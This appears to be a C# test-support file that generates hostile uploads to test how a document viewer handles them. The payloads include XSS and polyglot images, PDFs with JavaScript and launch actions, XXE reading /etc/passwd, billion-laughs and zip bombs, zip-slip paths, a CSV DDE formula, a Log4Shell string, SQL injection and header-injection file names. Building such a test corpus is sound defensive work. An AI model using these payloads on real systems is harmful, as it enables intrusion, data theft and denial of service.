using System.Buffers.Binary;
using System.Globalization;
using System.IO.Compression;
using System.Text;

namespace TwinHub.Tests.Support;

/// <summary>A file somebody might send to do harm.</summary>
public sealed record HostileFile(string Name, byte[] Bytes)
{
    public override string ToString() => Name;
}

/// <summary>
/// Files made to run something in a reader's browser, to reach outside, or to take a reader's memory and time, and names made to
/// lie. Whatever runs opens a dialog; whatever reaches outside asks <see cref="Outside"/>.
/// </summary>
public static class HostileFiles
{
    public const string Outside = "http://outside.example.org";

    private const string Run = "alert('ran')";
    private static readonly Lazy<IReadOnlyList<HostileFile>> Made = new(() => [.. Pages(), .. Pictures(), .. Pdfs(), .. Archives(), .. Offices(), .. Texts()]);

    /// <summary>The content decides here; the names are plain.</summary>
    public static IReadOnlyList<HostileFile> All => Made.Value;

    /// <summary>Forty names; the content is a harmless text.</summary>
    public static IReadOnlyList<string> Names { get; } =
    [
        "../../etc/passwd.txt", "..\\..\\windows\\system.ini.txt", "/etc/shadow.txt", "C:\\boot.txt", "....//....//up.txt", "%2e%2e%2fup.txt", "folder/../../x.txt", "~/.ssh/id.txt",
        "invoice\u202Etxt.gpj.txt", "photo\u202Egpj.exe.txt", "\u2066isolated\u2069.txt", "\u200Fmark.txt", "nul\0byte.txt", "nul.txt\0.html", "line\r\nSet-Cookie: a=b.txt", "line\nContent-Type: text/html.txt",
        "quote\".txt", "quote\"; filename=\"evil.html.txt", "semi;colon.txt", "back\\slash.txt", "it's'.txt", "%0d%0aX-Header: 1.txt", "*''x.txt", new string('a', 5_000) + ".txt",
        "CON.txt", "NUL.txt", "com1.txt", "LPT9.txt", "aux", "👩🏽‍🚀🏳️‍🌈.txt", "....", "   .txt", ".hidden.txt", "trailing. . .txt",
        "<img src=x onerror=alert('name')>.txt", "<script>alert('name')</script>.txt", "{0}{1}%s%n%x.txt", "${jndi:ldap://outside.example.org/a}.txt", "'; drop table documents; --.txt", "\uD800half.txt",
    ];

    public static byte[] Harmless => Utf8("Minutes of the meeting, read by nobody so far.");

    private static IEnumerable<HostileFile> Pages() =>
    [
        Text("page.html", $"<!doctype html><script>{Run}</script><img src={Outside}/page>"),
        Text("page.txt", $"<html><body onload=\"{Run}\"><iframe src={Outside}/frame></iframe>"),
        Text("late.txt", new string(' ', 1100) + $"<script>{Run}</script>"),
        Text("drawing.svg", $"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{Run}\"><script>{Run}</script><image href='{Outside}/svg'/></svg>"),
        Text("foreign.svg", $"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><iframe srcdoc=\"<script>{Run}</script>\"/></body></foreignObject></svg>"),
        Text("drawing.xml", $"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>{Run}</script></svg>"),
        Text("page.xhtml", $"<html xmlns='http://www.w3.org/1999/xhtml'><script>{Run}</script></html>"),
        Text("sheet.xml", $"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{Outside}/x.xsl'?><a><script xmlns='http://www.w3.org/1999/xhtml'>{Run}</script></a>"),
        Text("entity.xml", $"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM '{Outside}/entity'>]><a>&x;</a>"),
        Text("saved.mhtml", $"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b; type=text/html\n\n--b\nContent-Type: text/html\nContent-Location: {Outside}/mhtml\n\n<script>{Run}</script>\n--b--"),
        Text("link.url", $"[InternetShortcut]\nURL={Outside}/url\n"),
        new("link.lnk", [0x4C, 0, 0, 0, 1, 0x14, 2, 0, .. new byte[80]]),
        Text("app.js", Run), Text("app.hta", $"<script>{Run}</script>"), Text("app.bat", "calc"),
    ];

    private static IEnumerable<HostileFile> Pictures()
    {
        var png = Png(40, 30, new byte[40 * 30 * 3]);
        return
        [
            new("both.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, .. "JFIF\0"u8, 1, 1, 0, 0, 1, 0, 1, 0, 0, .. Utf8($"<script>{Run}</script>"), 0xFF, 0xD9]),
            new("both.gif", [.. "GIF89a"u8, .. Utf8($"/*"), .. new byte[40], .. Utf8($"*/=1;{Run};"), 0x3B]),
            new("both.png", [.. png, .. Zip(("index.html", Utf8($"<script>{Run}</script>")))]),
            new("comment.png", [.. png[..33], .. Chunk("tEXt", Utf8($"Comment\0<script>{Run}</script>")), .. png[33..]]),
            new("cut.png", png[..(png.Length / 2)]),
            new("cut.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, .. "JFIF\0"u8]),
            new("large.jpg", LyingJpeg()),
            new("bomb.png", Png(20_000, 20_000, null)),
            new("wide.png", Png(100_000, 500, null)),
            new("endless.png", [.. png[..16], 0x7F, 0xFF, 0xFF, 0xFF, 0x7F, 0xFF, 0xFF, 0xFF, .. png[24..]]),
            new("noise.webp", [.. "RIFF"u8, 0xFF, 0xFF, 0xFF, 0x7F, .. "WEBPVP8X"u8, 10, 0, 0, 0, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF]),
        ];
    }

    private static IEnumerable<HostileFile> Pdfs() =>
    [
        new("script.pdf", Pdf("<</S/JavaScript/JS(app.alert\\('ran'\\);this.submitForm\\('" + Outside + "/submit'\\);app.launchURL\\('" + Outside + "/launch',true\\);)>>")),
        new("launch.pdf", Pdf("<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>")),
        new("uri.pdf", Pdf($"<</S/URI/URI({Outside}/uri)>>")),
        new("remote.pdf", Pdf($"<</S/GoToR/F<</FS/URL/F({Outside}/remote.pdf)>>/D[0/Fit]>>")),
        new("submit.pdf", Pdf($"<</S/SubmitForm/F<</FS/URL/F({Outside}/form)>>/Flags 4>>")),
        new("page.pdf", [.. Utf8($"%PDF-1.4\n<html><script>{Run}</script></html>\n"), .. Pdf("<</S/Named/N/NextPage>>")]),
        new("cut.pdf", Pdf("<</S/Named/N/NextPage>>")[..200]),
        Text("loop.pdf", "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999999/Parent 2 0 R>>endobj\ntrailer<</Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF"),
    ];

    private static IEnumerable<HostileFile> Archives()
    {
        var flat = Zip(("zeros", new byte[220 * 1024 * 1024]));
        return
        [
            new("flat.zip", flat),
            new("nested.zip", Enumerable.Range(0, 6).Aggregate(Zip(("a", new byte[1024 * 1024])), (inner, _) => Zip(("1.zip", inner), ("2.zip", inner), ("3.zip", inner)))),
            new("path.zip", Zip(("../../../etc/cron.d/x", Harmless), ("/etc/passwd", Harmless), ("..\\..\\x", Harmless), ("C:\\x", Harmless), (new string('a', 30_000), Harmless))),
            new("many.zip", Zip([.. Enumerable.Range(0, 6_000).Select(n => (n.ToString(CultureInfo.InvariantCulture), Array.Empty<byte>()))])),
            new("cut.zip", flat[..(flat.Length / 2)]),
            new("app.jar", Zip(("META-INF/MANIFEST.MF", Harmless), ("A.class", Harmless))),
        ];
    }

    private static IEnumerable<HostileFile> Offices()
    {
        var types = ("[Content_Types].xml", Utf8("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>"));
        var (plain, relations) = (("word/document.xml", Word("Hello")), new Func<string, (string, byte[])>(what => ("word/_rels/document.xml.rels", Utf8($"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{what}\" Target=\"{Outside}/{what}\" TargetMode=\"External\"/></Relationships>"))));
        return
        [
            new("bomb.docx", Zip(types, ("word/document.xml", [.. Word("Hello")[..^30], .. Enumerable.Repeat((byte)' ', 60 * 1024 * 1024)]))),
            new("deep.docx", Zip(types, ("word/document.xml", Utf8(string.Concat(Enumerable.Repeat("<a>", 2_000_000)))))),
            new("crowd.docx", Zip([types, plain, .. Enumerable.Range(0, 6_000).Select(n => ($"word/media/{n}.png", Array.Empty<byte>()))])),
            new("lying.docx", Lying(Zip(types, ("word/document.xml", [.. Utf8("<w:document xmlns:w=\"w\"><w:p><w:t>"), .. Enumerable.Repeat((byte)'a', 90 * 1024 * 1024), .. Utf8("</w:t></w:p></w:document>")])))),
            new("image.docx", Zip(types, plain, relations("image"))), new("link.docx", Zip(types, plain, relations("oleObject"))),
            new("template.docx", Zip(types, plain, relations("attachedTemplate"))), new("frame.docx", Zip(types, plain, relations("frame"))),
            new("entity.docx", Zip(types, ("word/document.xml", Utf8($"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\"><!ENTITY y SYSTEM \"{Outside}/xxe\">]><w:document xmlns:w=\"w\"><w:p><w:t>&x;&y;</w:t></w:p></w:document>")))),
            new("laughs.xlsx", Zip(types, ("xl/workbook.xml", Utf8("<a/>")), ("xl/sharedStrings.xml", Utf8("<!DOCTYPE a [<!ENTITY a \"aaaaaaaaaa\">" + string.Concat(Enumerable.Range(1, 12).Select(n => $"<!ENTITY {(char)('a' + n)} \"{string.Concat(Enumerable.Repeat($"&{(char)('a' + n - 1)};", 10))}\">")) + "]><sst><si><t>&m;</t></si></sst>")))),
            new("formula.csv", Utf8($"=cmd|' /C calc'!A0,=HYPERLINK(\"{Outside}/csv\"),@SUM(1)\n")),
            new("broken.pptx", Zip(types, ("ppt/presentation.xml", Utf8("<p")), ("ppt/slides/slide1.xml", Utf8("<a:t>never closed")))),
        ];
    }

    private static IEnumerable<HostileFile> Texts() =>
    [
        Text("attempts.md", $"# Title\n\n<script>{Run}</script>\n\n<img src=x onerror={Run}>\n\n![seen]({Outside}/picture.png)\n\n[link](javascript:{Run})\n\n<iframe src={Outside}/md></iframe>\n\n[ref]: javascript:{Run}\n\n[ref]"),
        Text("brackets.md", new string('[', 60_000)), Text("stars.md", string.Concat(Enumerable.Repeat("*a **b _c ", 18_000))), Text("quotes.md", string.Concat(Enumerable.Repeat("> ", 60_000))), Text("ticks.md", string.Concat(Enumerable.Range(1, 600).Select(n => new string('`', n) + " "))),
        Text("lists.md", string.Concat(Enumerable.Range(0, 600).Select(n => new string(' ', n) + "- a\n"))), Text("links.md", string.Concat(Enumerable.Repeat("[a](", 45_000))),
        Text("close.txt", $"</pre></div></main><script>{Run}</script><img src=x onerror={Run}>"),
        new("wide.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes($"<script>{Run}</script>")]),
        Text("words.txt", string.Join(' ', Enumerable.Range(0, 60_000).Select(n => $"{(char)('가' + n % 11_000)}{(char)('가' + n * 7 % 11_000)}{(char)('가' + n / 11)}"))),
    ];

    private static HostileFile Text(string name, string text) => new(name, Utf8(text));

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Word(string text) => Utf8($"<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>");

    /// <summary>An archive of these entries.</summary>
    public static byte[] Zip(params (string Name, byte[] Content)[] entries)
    {
        var bytes = new MemoryStream();
        using (var archive = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var entry = archive.CreateEntry(name, CompressionLevel.Fastest).Open();
                entry.Write(content);
            }
        }
        return bytes.ToArray();
    }

    /// <summary>A PDF of one page with words on it, whose every action is this one.</summary>
    public static byte[] Pdf(string action, string words = "LED strategy of Tripoli")
    {
        var drawn = $"BT /F 24 Tf 50 150 Td ({words}) Tj ET";
        string[] objects =
        [
            $"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AA<</WC 5 0 R/DP 5 0 R>>/Names<</JavaScript<</Names[(a) 5 0 R]>>>>>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 300]/Contents 4 0 R/Resources<</Font<</F 6 0 R>>>>/AA<</O 5 0 R/C 5 0 R>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 400 300]/A 5 0 R>>]>>",
            $"<</Length {drawn.Length}>>stream\n{drawn}\nendstream", action, "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        ];
        var pdf = new StringBuilder("%PDF-1.7\n");
        var places = new List<int>();
        foreach (var (one, number) in objects.Select((one, index) => (one, index + 1)))
        {
            places.Add(pdf.Length);
            pdf.Append(CultureInfo.InvariantCulture, $"{number} 0 obj\n{one}\nendobj\n");
        }
        var table = pdf.Length;
        pdf.Append(CultureInfo.InvariantCulture, $"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n");
        places.ForEach(place => pdf.Append(CultureInfo.InvariantCulture, $"{place:D10} 00000 n \n"));
        pdf.Append(CultureInfo.InvariantCulture, $"trailer<</Size {objects.Length + 1}/Root 1 0 R>>\nstartxref\n{table}\n%%EOF");
        return Encoding.Latin1.GetBytes(pdf.ToString());
    }

    /// <summary>A PNG of red, green and blue; without pixels all are black, which makes it small.</summary>
    public static byte[] Png(int width, int height, byte[]? pixels)
    {
        var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true))
        {
            var row = new byte[width * 3 + 1];
            for (var y = 0; y < height; y++)
            {
                pixels?.AsSpan(y * width * 3, width * 3).CopyTo(row.AsSpan(1));
                zlib.Write(row);
            }
        }
        var head = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(head, width);
        BinaryPrimitives.WriteInt32BigEndian(head.AsSpan(4), height);
        (head[8], head[9]) = (8, 2);
        return [0x89, .. "PNG\r\n"u8, 0x1A, 0x0A, .. Chunk("IHDR", head), .. Chunk("IDAT", packed.ToArray()), .. Chunk("IEND", [])];
    }

    private static byte[] Chunk(string kind, byte[] data)
    {
        var chunk = new byte[data.Length + 12];
        BinaryPrimitives.WriteInt32BigEndian(chunk, data.Length);
        Encoding.ASCII.GetBytes(kind, chunk.AsSpan(4));
        data.CopyTo(chunk, 8);
        BinaryPrimitives.WriteUInt32BigEndian(chunk.AsSpan(data.Length + 8), Crc(chunk.AsSpan(4, data.Length + 4)));
        return chunk;
    }

    private static uint Crc(ReadOnlySpan<byte> bytes)
    {
        var crc = uint.MaxValue;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var bit = 0; bit < 8; bit++)
            {
                crc = (crc & 1) == 1 ? (crc >> 1) ^ 0xEDB88320 : crc >> 1;
            }
        }
        return ~crc;
    }

    /// <summary>A baseline JPEG that says it has 65,000 × 65,000 pixels and then ends.</summary>
    private static byte[] LyingJpeg() =>
    [
        0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xFF, 0xDB, 0, 67, 0, .. Enumerable.Repeat((byte)1, 64),
        0xFF, 0xC0, 0, 17, 8, 0xFD, 0xE8, 0xFD, 0xE8, 3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0, 0xFF, 0xDA, 0, 12, 3, 1, 0, 2, 0, 3, 0, 0, 63, 0, 0xFF, 0xD9,
    ];

    /// <summary>The archive says that each of its entries is small.</summary>
    private static byte[] Lying(byte[] zip)
    {
        for (var at = 0; at + 46 < zip.Length; at++)
        {
            if (zip.AsSpan(at, 4).SequenceEqual("PK\u0001\u0002"u8))
            {
                BinaryPrimitives.WriteUInt32LittleEndian(zip.AsSpan(at + 24), Math.Min(1000, BinaryPrimitives.ReadUInt32LittleEndian(zip.AsSpan(at + 24))));
            }
        }
        return zip;
    }
}
